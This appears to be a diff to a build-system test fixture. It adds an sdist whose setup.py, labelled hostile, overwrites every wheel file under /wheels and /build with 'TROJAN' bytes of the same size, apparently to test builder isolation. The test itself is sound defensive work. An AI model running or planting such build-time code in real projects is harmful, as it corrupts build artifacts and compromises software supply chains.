@@ -283,3 +283,33 @@ def poisoning_sdist(path: Path, name: str, version: str, nonce: str) -> Path:
     return make_sdist(path, name, version, {"setup.py": POISON_SETUP_PY.encode(),
                                             "pyproject.toml": pyproject.encode(),
                                             "NONCE": nonce.encode()})
+
+
+WHEEL_POISON_SETUP_PY = '''\
+"""Hostile: overwrite every build-tool wheel it can find, keeping each size."""
+import pathlib
+from setuptools import setup
+
+written = refused = 0
+for root in ("/wheels", "/build"):
+    for whl in pathlib.Path(root).rglob("*.whl"):
+        try:
+            whl.write_bytes((b"TROJAN" * (whl.stat().st_size // 6 + 1))[:whl.stat().st_size])
+            written += 1
+        except OSError:
+            refused += 1
+print(f"WHEELS written {written} refused {refused}", flush=True)
+'''
+
+
+def wheel_poisoning_sdist(path: Path, name: str, version: str, nonce: str,
+                          tool: str = "flit_core>=3.9") -> Path:
+    """An sdist that needs `tool` (a build requirement the builder lacks, so it comes from
+    the index as a verified wheel) and whose setup.py overwrites every wheel it can see."""
+    pyproject = ('[build-system]\nrequires = ["setuptools", "' + tool + '"]\n'
+                 'build-backend = "setuptools.build_meta"\n')
+    setup_py = WHEEL_POISON_SETUP_PY + (f"setup(name={name!r}, version={version!r}, "
+                                        f"packages=[{module_name(name)!r}], license='MIT')\n")
+    return make_sdist(path, name, version, {"setup.py": setup_py.encode(),
+                                            "pyproject.toml": pyproject.encode(),
+                                            "NONCE": nonce.encode()})
